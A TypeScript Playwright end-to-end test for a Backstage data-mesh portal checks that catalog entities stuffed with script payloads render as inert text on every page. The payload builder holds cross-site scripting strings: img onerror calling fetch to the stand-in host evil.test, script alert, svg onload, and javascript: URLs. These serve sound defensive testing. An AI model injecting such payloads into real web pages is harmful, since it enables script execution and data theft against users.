/*
 * Hostile content in the browser: entities whose every free-text field
 * carries script payloads and whose contract is a `javascript:` URL, in
 * the real catalog with the example organisation, rendered on every
 * data-mesh page and card in Chromium. Nothing may run (no dialog, no
 * request to the payloads' host), no non-http(s) link may be rendered, the
 * payloads must show as text, and a long unbroken value must not push a
 * table out of its card.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Browser, Page } from 'playwright-core';
import { parse, stringify } from 'yaml';
import { validateDataMeshEntity } from '@data-mesh-portfolio/plugin-data-mesh-common';
import { openPortalAsGuest } from './chromium';
import {
  RunningBackend,
  repoRoot,
  startBackend,
  waitForExamplePortfolio,
} from './backendProcess';
import { E2E_PORTS } from './ports';

jest.setTimeout(300_000);

/** The host every payload tries to reach. */
const EVIL_HOST = 'evil.test';
const payload = (field: string) =>
  `${field} <img src=x onerror="fetch('http://${EVIL_HOST}/${field}')"><script>alert('${field}')</script><svg onload="alert(1)"></svg><a href="javascript:alert(1)">click</a>`;
// eslint-disable-next-line no-script-url
const SCRIPT_URL = "javascript:alert('contract')";
/** A relative path, which the validators accept, carrying markup. */
const HOSTILE_PATH = 'contracts/<svg/onload=alert(1)>.yaml';
const UNBROKEN = `freshness-${'x'.repeat(400)}`;

function hostileEntities() {
  const meta = (name: string) => ({
    name,
    title: payload(`${name}-title`),
    description: payload(`${name}-description`),
  });
  return [
    {
      apiVersion: 'backstage.io/v1alpha1',
      kind: 'Domain',
      metadata: meta('hostile-domain'),
      spec: { type: 'source-aligned', owner: 'group:checkout-team' },
    },
    {
      apiVersion: 'data-mesh-portfolio.io/v1alpha1',
      kind: 'DataProduct',
      metadata: meta('hostile-product'),
      spec: {
        owner: 'group:checkout-team',
        domain: 'hostile-domain',
        type: 'source-aligned',
        lifecycle: 'active',
        description: {
          purpose: payload('purpose'),
          usage: payload('usage'),
          limitations: payload('limitations'),
        },
        outputPorts: [
          {
            name: 'hostile-port',
            type: 'table',
            description: payload('port-description'),
            contract: { ref: HOSTILE_PATH, standard: 'odcs' },
            sla: { freshness: UNBROKEN, availability: payload('availability') },
          },
        ],
        requiresCapabilities: ['hostile-capability'],
      },
    },
    {
      apiVersion: 'data-mesh-portfolio.io/v1alpha1',
      kind: 'UseCase',
      metadata: meta('hostile-use-case'),
      spec: {
        owner: 'group:checkout-team',
        domain: 'hostile-domain',
        status: 'live',
        personas: ['data-analyst'],
        value: 'high',
        complexity: 'low',
        consumes: ['hostile-product#hostile-port'],
        requiresCapabilities: ['hostile-capability'],
      },
    },
    {
      apiVersion: 'data-mesh-portfolio.io/v1alpha1',
      kind: 'PlatformCapability',
      metadata: {
        ...meta('hostile-capability'),
        links: [{ url: 'https://docs.example', title: payload('link-title') }],
      },
      spec: {
        owner: 'group:data-platform',
        status: 'building',
        category: 'ingestion',
      },
    },
  ];
}

describe('hostile content in the browser', () => {
  let backend: RunningBackend;
  let browser: Browser;
  let page: Page;
  const dialogs: string[] = [];
  const evilRequests: string[] = [];
  const workDir = fs.mkdtempSync(path.join(os.tmpdir(), 'dm-hostile-'));

  beforeAll(async () => {
    const entities = hostileEntities();
    const file = path.join(workDir, 'hostile.yaml');
    fs.writeFileSync(file, entities.map(e => stringify(e)).join('---\n'));
    const { catalog } = parse(
      fs.readFileSync(path.join(repoRoot, 'app-config.yaml'), 'utf8'),
    );
    backend = await startBackend({
      port: E2E_PORTS.hostile.backend,
      extraConfig: {
        dataMesh: { schedule: { initialDelay: { seconds: 1 } } },
        catalog: {
          locations: [...catalog.locations, { type: 'file', target: file }],
        },
      },
    });
    await waitForExamplePortfolio(backend, await backend.getGuestToken(), {
      domains: 1,
      dataProducts: 1,
      useCases: 1,
      capabilities: 1,
    });
    ({ browser, page } = await openPortalAsGuest(backend.baseUrl));
    page.on('dialog', async dialog => {
      dialogs.push(dialog.message());
      await dialog.dismiss();
    });
    page.on('request', request => {
      if (new URL(request.url()).hostname === EVIL_HOST) {
        evilRequests.push(request.url());
      }
    });
  });

  afterAll(async () => {
    await browser?.close();
    await backend?.stop();
    fs.rmSync(workDir, { recursive: true, force: true });
  });

  it('uses entities the catalog module accepts, so that they reach the pages', () => {
    const entities = hostileEntities();
    for (const entity of entities.filter(e => e.kind !== 'Domain')) {
      expect(validateDataMeshEntity(entity)).toEqual([]);
    }
    // A script URL never reaches a page: the catalog module rejects it.
    const [, product] = entities as any[];
    const withScriptUrl = structuredClone(product);
    withScriptUrl.spec.outputPorts[0].contract.ref = SCRIPT_URL;
    expect(validateDataMeshEntity(withScriptUrl)).toEqual([
      expect.objectContaining({ path: 'spec.outputPorts[0].contract.ref' }),
    ]);
  });

  /** Every link's target on the page that is not http(s) or in-app. */
  const unsafeLinks = () =>
    page.$$eval('a[href]', anchors =>
      anchors
        .map(a => a.getAttribute('href') ?? '')
        .filter(href => !/^(https?:\/\/|\/(?!\/)|#)/i.test(href)),
    );

  it.each([
    ['/data-mesh', 'hostile-domain-title'],
    ['/data-mesh/capabilities', 'hostile-capability-title'],
    ['/data-mesh/capabilities/platform', 'hostile-capability-title'],
    ['/catalog/default/dataproduct/hostile-product', 'port-description'],
    ['/catalog/default/usecase/hostile-use-case', 'hostile-capability-title'],
    ['/catalog/default/platformcapability/hostile-capability', 'link-title'],
    ['/catalog/default/domain/hostile-domain', 'hostile-domain-title'],
  ])('renders %s with payloads as text and runs none', async (route, field) => {
    await page.goto(`${backend.baseUrl}${route}`);
    // The payload arrived and shows literally, markup and all.
    await page.getByText(payload(field)).first().waitFor();
    // Give anything injected a moment to fire.
    await page.waitForTimeout(500);
    expect(dialogs).toEqual([]);
    expect(evilRequests).toEqual([]);
    // No payload's handler made it into the page. (Backstage's About card
    // renders descriptions as sanitised Markdown: an <img> may remain,
    // without its handler.)
    expect(
      await page.locator('[onerror], [onload], [onclick], svg script').count(),
    ).toBe(0);
    expect(await unsafeLinks()).toEqual([]);
  });

  it('keeps the output ports table within its card', async () => {
    await page.goto(
      `${backend.baseUrl}/catalog/default/dataproduct/hostile-product`,
    );
    const table = page.getByRole('table', { name: 'Output ports' });
    await table.getByText(UNBROKEN, { exact: false }).waitFor();
    const { tableRight, cardRight } = await table.evaluate(el => {
      const card = el.closest('.MuiCard-root') ?? el.parentElement!;
      return {
        tableRight: el.getBoundingClientRect().right,
        cardRight: card.getBoundingClientRect().right,
      };
    });
    expect(tableRight).toBeLessThanOrEqual(cardRight + 1);
    // The contract path is shown as inert text, never as a link.
    expect(await table.getByRole('link').count()).toBe(0);
    expect(await table.getByText(HOSTILE_PATH).count()).toBe(1);
  });
});
